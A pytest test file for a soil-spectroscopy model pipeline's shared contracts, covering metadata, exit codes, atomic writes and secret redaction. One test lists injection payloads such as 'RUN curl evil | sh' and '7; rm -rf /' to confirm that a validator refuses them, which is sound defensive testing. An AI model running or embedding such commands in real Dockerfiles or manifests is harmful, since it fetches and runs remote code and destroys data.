"""The shared contracts: records round-trip and refuse bad files; the CLI boundary maps every outcome."""

from __future__ import annotations

import argparse
import json

import pytest

from soil_contracts.bands import SpectralAxis, band_columns, band_name, band_positions, spectral_axis
from soil_contracts.cli import run_main
from soil_contracts.errors import ContractError, ExitCode, SoilError
from soil_contracts.files import atomic_path, write_json_atomic
from soil_contracts.model import ModelMetadata
from soil_contracts.records import ImageRecord, RunRecord, StageRecord
from soil_contracts.redact import redact, redact_url

META = {
    "name": "soil-soc", "version": None, "git_revision": "abc", "data_version": "d1",
    "data_files": {"reference.parquet": "m1"}, "target": "SOC_target", "target_unit": "%", "bands": ["wl_350", "wl_360"],
    "model": "pls", "best_params": {"n_components": 7}, "metrics": {"cv_rmse": 0.5},
}


def test_model_metadata_round_trips(tmp_path):
    path = ModelMetadata.parse(META).save(tmp_path / "soilci.json")
    loaded = ModelMetadata.load(path)
    assert loaded.bands == ["wl_350", "wl_360"] and loaded.best_params == {"n_components": 7}
    assert json.loads(path.read_text())["schema_version"] == 3
    assert loaded.selection is None  # a version 2 file has no selection and still loads


def test_model_metadata_keeps_the_pipeline_selection(tmp_path):
    members = [{"name": "plain", "steps": {}, "best_params": {"n_components": 7}, "cv_rmse": 0.5, "cv_rmse_std": 0.1},
               {"name": "snv", "steps": {"snv": True}, "best_params": {"n_components": 5}, "cv_rmse": 0.4,
                "cv_rmse_std": 0.1}]
    selection = {"chosen": "snv", "cv_folds": 10, "seed": 2025, "members": members}
    loaded = ModelMetadata.load(ModelMetadata.parse({**META, "selection": selection}).save(tmp_path / "soilci.json"))
    assert loaded.selection.chosen == "snv" and [m.name for m in loaded.selection.members] == ["plain", "snv"]
    assert loaded.selection.rule == "first_within"  # written before the rule was recorded: the rule of then
    new = {**selection, "rule": "lowest_beats_first"}
    assert ModelMetadata.parse({**META, "selection": new}).selection.rule == "lowest_beats_first"
    with pytest.raises(ContractError, match="selection.rule"):
        ModelMetadata.parse({**META, "selection": {**selection, "rule": "best"}})
    with pytest.raises(ContractError, match="selection.members.0.rmse: Extra inputs"):
        ModelMetadata.parse({**META, "selection": {**selection, "members": [{**members[0], "rmse": 1.0}]}})


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "not found"),
        (b"\xff\xfe", "not valid UTF-8 JSON"),
        (b"[1]", "must be a JSON object"),
        (json.dumps({k: v for k, v in META.items() if k != "bands"}).encode(), "bands: Field required"),
        (json.dumps({**META, "colour": "blue"}).encode(), "colour: Extra inputs"),
        (json.dumps({**META, "bands": []}).encode(), "bands"),
    ],
)
def test_model_metadata_refuses_bad_files_naming_the_field(tmp_path, content, message):
    path = tmp_path / "soilci.json"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(ContractError, match=message) as info:
        ModelMetadata.load(path)
    assert str(path) in str(info.value) and info.value.exit_code == ExitCode.BAD_INPUT


def test_run_record_keeps_stage_outcomes(tmp_path):
    record = RunRecord(run_id="r1", mode="local", started="2026-01-01T00:00:00+00:00", repo="/x",
                       stages=[StageRecord(name="prepare", outcome="ran", exit_code=0)])
    assert RunRecord.load(record.save(tmp_path / "run.json")).stages[0].outcome == "ran"
    with pytest.raises(ContractError, match="outcome"):
        RunRecord.parse({**record.model_dump(), "stages": [{"name": "x", "outcome": "maybe"}]})


def test_image_record_requires_every_field():
    with pytest.raises(ContractError, match="digest: Field required"):
        ImageRecord.parse({"image": "r/m:t@sha256:1", "repository": "r/m", "tag": "t"})


def test_atomic_path_leaves_nothing_when_the_block_fails(tmp_path):
    target = tmp_path / "out.json"
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_text("half")
        raise RuntimeError
    assert list(tmp_path.iterdir()) == []
    write_json_atomic(target, {"a": 1})
    assert json.loads(target.read_text()) == {"a": 1}


def test_redact_hides_userinfo_and_named_secrets():
    assert redact_url("https://bot:tok@git.example/x.git") == "https://***@git.example/x.git"
    assert redact_url("http://127.0.0.1:5000") == "http://127.0.0.1:5000"
    text = "run at http://u:p@mlflow:5000/#/runs/1 with key s3cr3t"
    assert redact(text, ("s3cr3t",)) == "run at http://***@mlflow:5000/#/runs/1 with key ***"


def test_bands_parse_positions_and_axis():
    cols = ["sample_id", "wl_350", "wl_360.5", "SOC_target"]
    assert band_columns(cols) == ["wl_350", "wl_360.5"]
    assert band_positions(["wl_350", "wl_360.5"]) == [350.0, 360.5]
    assert spectral_axis(cols) is SpectralAxis.WAVELENGTH_NM
    assert band_name(SpectralAxis.WAVENUMBER_CM1, 4000.0) == "wn_4000"
    with pytest.raises(ValueError, match="mixed"):
        spectral_axis(["wl_350", "wn_4000"])


class _Gate(SoilError):
    exit_code = ExitCode.VERDICT


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(prog="demo")
    sub = parser.add_subparsers(dest="command", required=True)
    sub.add_parser("go")
    return parser


@pytest.mark.parametrize(
    ("raised", "code", "line"),
    [
        (None, 0, ""),
        (_Gate("drift"), 1, "demo go: error: drift"),
        (SoilError("bad file http://u:pw@h/x"), 2, "demo go: error: bad file http://***@h/x"),
        (KeyError("bands"), 70, "internal error (exit 70, a crash, not a verdict): KeyError"),
        (KeyboardInterrupt(), 130, "interrupted"),
    ],
)
def test_run_main_maps_each_outcome_to_its_exit_code(capsys, raised, code, line):
    def go(_args):
        if raised is not None:
            raise raised
        return 0

    assert run_main("demo", _parser(), {"go": go}, ["go"]) == code
    err = capsys.readouterr().err
    assert line in err
    if code == 70:
        assert "Traceback" in err


def test_run_main_translates_foreign_errors_and_usage():
    def go(_args):
        raise UnicodeDecodeError("utf-8", b"\xff", 0, 1, "bad")

    translate = lambda exc: SoilError("unreadable") if isinstance(exc, UnicodeDecodeError) else None
    assert run_main("demo", _parser(), {"go": go}, ["go"], translate=translate) == 2
    assert run_main("demo", _parser(), {"go": go}, ["nope"]) == 2


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "params file not found"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "not UTF-8 text"),
        (b"prepare:\n<<<<<<< HEAD\n  target: SOC_target\n=======\n  target: pH_target\n>>>>>>> pr\n",
         "not valid YAML at line 3; it holds merge conflict markers"),
        (b"- a\n- b\n", "expected a mapping of stage sections"),
    ],
)
def test_params_file_problems_are_named_not_crashes(tmp_path, content, message):
    from soil_contracts.params import read_params_file

    path = tmp_path / "params.yaml"
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(ContractError, match=message):
        read_params_file(path)
    path.write_text("")
    assert read_params_file(path) == {}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("git_revision", "abc\nRUN curl evil | sh"),
        ("model_name", "soil-soc\n  hostNetwork: true"),
        ("model_version", "7; rm -rf /"),
        ("tag", "v1 --privileged"),
    ],
)
def test_image_record_refuses_values_that_would_inject_into_dockerfiles_or_manifests(field, value):
    good = {"image": "127.0.0.1:5000/soil-model-api:0123456789ab-v7@sha256:" + "a" * 64,
            "repository": "127.0.0.1:5000/soil-model-api", "tag": "0123456789ab-v7", "digest": "sha256:" + "a" * 64,
            "image_id": "sha256:" + "b" * 64, "model_name": "soil-soc", "model_version": "7",
            "git_revision": "0123456789abcdef0123456789abcdef01234567", "service_image": "soil-model-api:local"}
    assert ImageRecord.parse(good).model_version == "7"
    with pytest.raises(ContractError, match=field):
        ImageRecord.parse({**good, field: value})


def test_atomic_paths_puts_every_output_in_place_or_none(tmp_path, monkeypatch):
    import os

    from soil_contracts.files import atomic_paths

    first, second = tmp_path / "a.json", tmp_path / "sub" / "b.png"
    first.write_text("old a")
    with atomic_paths([first, None, second]) as (t1, none, t2):
        assert none is None
        t1.write_text("new a")
        t2.write_text("new b")
    assert (first.read_text(), second.read_text()) == ("new a", "new b")

    # The second rename fails: the first is undone and its old content restored.
    real = os.replace

    def failing(src, dst):
        if str(dst) == str(second) and str(src).endswith(".tmp"):  # the new file, not the restore
            raise PermissionError(13, "Permission denied", str(dst))
        return real(src, dst)

    monkeypatch.setattr(os, "replace", failing)
    with pytest.raises(PermissionError), atomic_paths([first, second]) as (t1, t2):
        t1.write_text("newer a")
        t2.write_text("newer b")
    monkeypatch.undo()
    assert (first.read_text(), second.read_text()) == ("new a", "new b")
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["a.json", "b.png", "sub"]  # no temp or backup left


def test_atomic_paths_refuses_a_directory_or_a_file_in_the_way_before_making_anything(tmp_path):
    from soil_contracts.files import atomic_paths

    (tmp_path / "plot.png").mkdir()
    with pytest.raises(IsADirectoryError), atomic_paths([tmp_path / "new" / "out.json", tmp_path / "plot.png"]):
        pass
    (tmp_path / "file").write_text("")
    with pytest.raises(NotADirectoryError), atomic_paths([tmp_path / "new" / "out.json", tmp_path / "file" / "x"]):
        pass
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file", "plot.png"]
